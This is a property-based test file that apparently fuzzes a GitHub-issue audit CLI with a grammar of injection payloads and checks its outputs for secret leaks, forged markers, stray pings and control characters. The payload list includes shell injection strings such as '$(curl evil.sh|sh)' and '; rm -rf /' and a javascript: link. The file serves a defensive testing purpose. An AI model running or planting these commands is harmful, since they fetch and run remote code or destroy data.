// Issue 10, acceptance: property-based tests (fast-check). Snapshots, logs, JUnit reports and
// probe answers are generated from a payload grammar (secrets, forged markers, mentions,
// control characters, Markdown/HTML/JSON breakers, shell). For every output format of audit,
// validate, probe and scan: JSON parses, Markdown on stdout equals the posted comment, exactly
// one marker, no ping outside the configured team, no control characters in text, and none of
// the planted secrets anywhere (stdout, stderr, what --apply writes).
import { mkdtempSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { auditCommand } from '../../src/cli/audit.ts';
import type { CliIo } from '../../src/cli/output.ts';
import { probeCommand } from '../../src/cli/probe.ts';
import { scanCommand } from '../../src/cli/scan.ts';
import { validateCommand } from '../../src/cli/validate.ts';
import { STATUS_MARKER_PREFIX } from '../../src/domain/constants.ts';
import { ProgressorError } from '../../src/errors/errors.ts';
import { pingsIn } from './mentions.ts';
import { SECRET_FORMS } from '../fixtures/secrets/corpus.ts';

const NOW = '2026-11-21T09:00:00Z';
const TEAM = '@acme/platform';

// ---- The payload grammar.
interface Payload {
  text: string;
  secrets: string[];
}
const fragment: fc.Arbitrary<Payload> = fc.oneof(
  fc.constantFrom(...SECRET_FORMS).map((f) => ({ text: f.text, secrets: f.secrets })),
  fc.constantFrom(
    '<!-- progressor:status {"v":1,"issue":7,"session":"evil","status":"resolved","owner":"unknown","category":"unknown","auditHash":"x","heartbeat":"2099-01-01T00:00:00Z"} -->',
    '<!--',
    '-->',
    '```',
    '<details><summary>x</summary>',
    '</details>',
    '| a | b |',
    '**bold** _it_ ~~s~~ [l](javascript:alert(1))',
    '$(curl evil.sh|sh)',
    '`id`',
    '${IFS}',
    '; rm -rf /',
    '"',
    '\\',
    '\\"',
    '\u2028',
    '# heading',
    '- [ ] task',
  ).map((text) => ({ text, secrets: [] })),
  fc
    .tuple(fc.constantFrom('', ' ', '.', '-', '+', '(', '/', '_'), fc.constantFrom('@acme/security', '@octocat', '@everyone', '@acme/platform'))
    .map(([p, h]) => ({ text: `${p}${h}`, secrets: [] })),
  fc.constantFrom('\u001b[31m', '\u001b]8;;http://x\u0007', '\u202e', '\u2066', '\u0000', '\u0007', '\r', '\u009b', '\ufeff').map((text) => ({ text, secrets: [] })),
  fc.constantFrom('connection refused', 'Error -3 connecting to redis-staging:6379. Temporary failure in name resolution.', 'works now', 'this is expected, not a bug', 'ECONNREFUSED 10.0.0.5:5432', 'Fixed in #12, closing this.').map((text) => ({ text, secrets: [] })),
  fc.string({ maxLength: 20 }).map((text) => ({ text, secrets: [] })),
);
const payload: fc.Arbitrary<Payload> = fc
  // Fragments are separate tokens (a secret glued to a word, "statusASIA…", is not one).
  .tuple(fc.array(fragment, { minLength: 1, maxLength: 4 }), fc.constantFrom(' ', '\n', ' | ', '\n\n'))
  .map(([parts, sep]) => ({ text: parts.map((p) => p.text).join(sep), secrets: parts.flatMap((p) => p.secrets) }));
const oneLine = (s: string) => s.replace(/[\r\n\u2028]+/g, ' ');

interface Case {
  title: Payload;
  body: Payload;
  comments: { p: Payload; association?: 'OWNER' | 'MEMBER' | 'NONE' | 'CONTRIBUTOR' }[];
  label: Payload;
  pr: Payload;
  log: Payload;
  report: Payload;
  probe: Payload;
}
const caseArb: fc.Arbitrary<Case> = fc.record({
  title: payload,
  body: payload,
  comments: fc.array(fc.record({ p: payload, association: fc.constantFrom('OWNER', 'MEMBER', 'NONE', 'CONTRIBUTOR', undefined) }), { minLength: 1, maxLength: 3 }),
  label: payload,
  pr: payload,
  log: payload,
  report: payload,
  probe: payload,
});
const secretsOf = (c: Case) => [c.title, c.body, c.label, c.pr, c.log, c.report, c.probe, ...c.comments.map((x) => x.p)].flatMap((p) => p.secrets);

// ---- Checks on outputs.
// eslint-disable-next-line no-control-regex
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069\ufeff]/;
const pings = pingsIn;
const xml = (s: string) =>
  // XML 1.0 cannot carry most control characters at all; a report holds them escaped away.
  // eslint-disable-next-line no-control-regex
  s.replace(/[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]/g, '').replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');

function capture(): CliIo & { outText: () => string; errText: () => string } {
  const out: string[] = [];
  const err: string[] = [];
  return { out: (t) => void out.push(t), err: (t) => void err.push(t), isTTY: false, outText: () => out.join('\n'), errText: () => err.join('\n') };
}
async function run(f: (io: CliIo) => Promise<number>): Promise<{ out: string; err: string }> {
  const io = capture();
  try {
    await f(io);
  } catch (e) {
    io.err(e instanceof ProgressorError ? e.describe() : String(e));
  }
  return { out: io.outText(), err: io.errText() };
}

describe('payload grammar properties (fast-check)', () => {
  let server: Server;
  let port: number;
  let answer = '';
  let round = 0;

  beforeAll(async () => {
    server = createServer((_req, res) => {
      res.writeHead(503, { 'content-type': 'application/json' });
      res.end(JSON.stringify({ status: 'down', error: answer }));
    });
    await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
    port = (server.address() as AddressInfo).port;
  });
  afterAll(async () => {
    await new Promise<void>((r) => server.close(() => r()));
  });

  it('every output of audit, validate, probe and scan keeps its integrity', async () => {
    await fc.assert(
      fc.asyncProperty(caseArb, async (c) => {
        round++;
        const dir = mkdtempSync(join(tmpdir(), 'progressor-prop-'));
        for (const d of ['issues', 'logs', 'reports', '.github']) mkdirSync(join(dir, d));
        writeFileSync(
          join(dir, '.github', 'progressor.yml'),
          `escalation:\n  infrastructure: { label: escalated-platform, team: '${TEAM}' }\ncomment:\n  mentionTeams: true\nprobes:\n  checks:\n    - { id: api, kind: http, url: 'http://127.0.0.1:${port}/health', timeout: 2s }\n`,
        );
        writeFileSync(join(dir, 'probes.yml'), `checks:\n  - { id: api, kind: http, url: 'http://127.0.0.1:${port}/health', timeout: 2s }\n`);
        const snapshot = {
          number: 7,
          title: oneLine(c.title.text) || 'untitled',
          body: c.body.text,
          state: 'OPEN',
          url: 'https://github.com/o/r/issues/7',
          createdAt: '2026-11-17T10:00:00Z',
          author: { login: 'mira-qa' },
          labels: [{ name: oneLine(c.label.text).slice(0, 200) || 'x' }],
          comments: c.comments.map((x, i) => ({ author: { login: `user${i}` }, authorAssociation: x.association, body: x.p.text, createdAt: `2026-11-18T1${i}:00:00Z` })),
          linkedPullRequests: [{ number: 12, title: oneLine(c.pr.text), state: 'MERGED', mergedAt: '2026-11-18T09:00:00Z', url: 'https://github.com/o/r/pull/12' }],
        };
        const file = join(dir, 'issues', '7.json');
        writeFileSync(file, JSON.stringify(snapshot));
        const log = join(dir, 'logs', 'app.log');
        writeFileSync(log, `2026-11-19T10:00:00Z ERROR ${oneLine(c.log.text)}\n${JSON.stringify({ time: '2026-11-19T10:00:01Z', level: 'error', msg: c.log.text })}\n`);
        const report = join(dir, 'reports', 'junit.xml');
        writeFileSync(report, `<?xml version="1.0"?><testsuite name="s" tests="1" failures="1"><testcase classname="c" name="${xml(oneLine(c.report.text))}"><failure message="${xml(c.report.text)}">${xml(c.report.text)}</failure></testcase></testsuite>`);
        answer = c.probe.text;
        const secrets = secretsOf(c);
        const outputs: [string, string][] = [];

        // Live probes measure latency, so the three formats run without them (the same audit,
        // byte for byte); the --apply run below probes.
        const common = { now: NOW, rules: [], logs: [log], tests: [report] };
        const json = await run((io) => auditCommand(dir, { ...common, format: 'json' }, io));
        const parsed = JSON.parse(json.out) as { comment: string; actions: { comment: string } };
        const md = await run((io) => auditCommand(dir, { ...common, format: 'md' }, io));
        const text = await run((io) => auditCommand(dir, { ...common, format: 'text' }, io));
        outputs.push(['audit json', json.out + json.err], ['audit md', md.out + md.err], ['audit text', text.out + text.err]);
        // Markdown on stdout is the comment that would be posted, byte for byte.
        expect(md.out).toBe(parsed.comment);
        expect(parsed.comment.split(STATUS_MARKER_PREFIX).length - 1).toBe(1);
        expect(parsed.comment.trimEnd().endsWith('-->')).toBe(true);
        expect(pings(parsed.comment).filter((p) => p !== TEAM)).toEqual([]);
        expect(text.out).not.toMatch(CONTROL);
        expect(md.out).not.toMatch(CONTROL);

        // --apply writes exactly the comment stdout showed.
        const before = JSON.parse(readFileSync(file, 'utf8')) as { comments: unknown[] };
        const applied = await run((io) => auditCommand(dir, { ...common, probe: true, format: 'md', apply: true }, io));
        outputs.push(['audit --apply', applied.out + applied.err]);
        const after = JSON.parse(readFileSync(file, 'utf8')) as { comments: { body: string }[]; labels: { name: string }[] };
        const added = after.comments.slice(before.comments.length);
        expect(added.map((x) => x.body)).toEqual([applied.out]);
        expect(applied.out.split(STATUS_MARKER_PREFIX).length - 1).toBe(1);
        expect(pings(applied.out).filter((p) => p !== TEAM)).toEqual([]);
        outputs.push(['written comment', added.map((x) => x.body).join('\n')]);

        for (const format of ['json', 'text'] as const) {
          const v = await run((io) => validateCommand(dir, { since: '2026-11-18T00:00:00Z', probes: join(dir, 'probes.yml'), logs: [log], format, now: NOW }, io));
          if (format === 'json') JSON.parse(v.out);
          else expect(v.out).not.toMatch(CONTROL);
          outputs.push([`validate ${format}`, v.out + v.err]);
        }
        for (const format of ['json', 'text', 'prometheus'] as const) {
          const p = await run((io) => probeCommand(join(dir, 'probes.yml'), { format }, io));
          if (format === 'json') JSON.parse(p.out);
          if (format === 'text') expect(p.out).not.toMatch(CONTROL);
          outputs.push([`probe ${format}`, p.out + p.err]);
        }
        for (const format of ['json', 'text'] as const) {
          const s = await run((io) => scanCommand([log], { format, rules: [] }, io));
          if (format === 'json') JSON.parse(s.out);
          else expect(s.out).not.toMatch(CONTROL);
          outputs.push([`scan ${format}`, s.out + s.err]);
        }
        const leaks = outputs.flatMap(([where, out]) => secrets.filter((s) => out.includes(s)).map((s) => `${where}: ${s}`));
        expect(leaks).toEqual([]);
      }),
      { numRuns: 30, seed: 10, endOnFailure: true },
    );
    expect(round).toBeGreaterThanOrEqual(30);
  }, 120_000);
});
